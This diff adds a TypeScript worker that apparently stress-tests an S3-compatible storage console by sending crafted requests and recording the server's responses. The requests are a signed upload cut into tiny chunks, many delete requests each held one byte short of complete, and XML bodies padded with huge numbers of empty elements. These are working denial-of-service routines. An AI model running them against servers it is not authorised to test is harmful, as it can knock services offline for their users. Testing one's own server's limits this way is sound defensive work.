@@ -1,0 +1,129 @@
+import { once } from 'node:events'
+import { connect, type Socket } from 'node:net'
+import { parentPort, workerData } from 'node:worker_threads'
+import aws4 from 'aws4'
+import { type Cut, tinyChunksRequest } from '../engine/tiny-chunks.ts'
+
+/** What the attacker knows: where the console and its engine are, a session, and the keys of its account. */
+export type Knowledge = {
+  url: string
+  s3Url: string
+  cookie: string
+  keys: { accessKey: string; secretKey: string }
+  bucket: string
+  attack: Attack
+}
+
+export type Attack =
+  | { kind: 'tiny chunks'; cut: Cut; bytes: number }
+  | { kind: 'held bodies'; count: number; bytes: number }
+  | { kind: 'many elements'; bytes: number; complete: boolean }
+
+const MiB = 1024 ** 2
+const known = workerData as Knowledge
+
+function open(url: string): Socket {
+  const { hostname, port } = new URL(url)
+  return connect(Number(port), hostname).on('error', () => undefined)
+}
+
+/** Sends the bytes; gives the status line of the answer, or what became of the connection. */
+async function exchange(url: string, request: Buffer): Promise<string> {
+  const socket = open(url)
+  await once(socket, 'connect')
+  socket.write(request)
+  let answer = ''
+  for await (const piece of socket) {
+    answer += String(piece)
+    if (answer.includes('\r\n')) break
+  }
+  socket.destroy()
+  return answer.split('\r\n')[0] || 'closed'
+}
+
+function tinyChunks(cut: Cut, bytes: number): Promise<string> {
+  const path = `/${known.bucket}/tiny-chunks`
+  const { host } = new URL(known.s3Url)
+  const body = Buffer.alloc(bytes, 'x')
+  return exchange(
+    known.s3Url,
+    tinyChunksRequest({ host, path, region: 'us-east-1', keys: known.keys, body, cut }),
+  )
+}
+
+/** POSTs of a body to the list of keys to delete, each without its last byte, until each is whole but for that or refused. */
+async function heldBodies(count: number, bytes: number): Promise<string> {
+  const { host, origin } = new URL(known.url)
+  const head = [
+    'DELETE /api/objects/delete HTTP/1.1',
+    `host: ${host}`,
+    `origin: ${origin}`,
+    `cookie: ${known.cookie}`,
+    'content-type: application/json',
+    `content-length: ${bytes}`,
+  ]
+  const block = Buffer.alloc(MiB, ' ')
+  const sockets: Socket[] = []
+  const answers: Record<string, number> = {}
+  await Promise.all(
+    Array.from({ length: count }, async () => {
+      const socket = open(known.url)
+      sockets.push(socket)
+      let refused: string | undefined
+      const over = new Promise<void>(resolve => {
+        socket.once('data', data => {
+          refused = String(data).split('\r\n')[0]
+          resolve()
+        })
+        socket.once('close', () => {
+          refused ??= 'closed'
+          resolve()
+        })
+      })
+      socket.write(`${head.join('\r\n')}\r\n\r\n`)
+      for (let left = bytes - 1; left > 0 && refused === undefined; ) {
+        const piece = block.subarray(0, Math.min(left, block.length))
+        left -= piece.length
+        if (!socket.write(piece)) await Promise.race([once(socket, 'drain').catch(() => undefined), over])
+      }
+      const end = refused ?? 'held'
+      answers[end] = (answers[end] ?? 0) + 1
+    }),
+  )
+  for (const socket of sockets) socket.destroy()
+  return Object.entries(answers)
+    .map(([end, times]) => `${times} × ${end}`)
+    .join(', ')
+}
+
+async function manyElements(bytes: number, complete: boolean): Promise<string> {
+  const name = complete ? 'CompleteMultipartUpload' : 'Delete'
+  const inner = '<a/>'.repeat(Math.floor((bytes - 2 * name.length - 5) / 4))
+  const { host } = new URL(known.s3Url)
+  const signed = aws4.sign(
+    {
+      service: 's3',
+      region: 'us-east-1',
+      method: 'POST',
+      host,
+      path: complete ? `/${known.bucket}/key?uploadId=none` : `/${known.bucket}?delete`,
+      headers: {},
+      body: `<${name}>${inner}</${name}>`,
+    },
+    { accessKeyId: known.keys.accessKey, secretAccessKey: known.keys.secretKey },
+  )
+  const lines = Object.entries(signed.headers).map(([header, value]) => `${header}: ${value}`)
+  return exchange(
+    known.s3Url,
+    Buffer.from(`POST ${signed.path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n${signed.body}`),
+  )
+}
+
+const { attack } = known
+const outcome =
+  attack.kind === 'tiny chunks'
+    ? await tinyChunks(attack.cut, attack.bytes)
+    : attack.kind === 'held bodies'
+      ? await heldBodies(attack.count, attack.bytes)
+      : await manyElements(attack.bytes, attack.complete)
+parentPort?.postMessage(outcome)
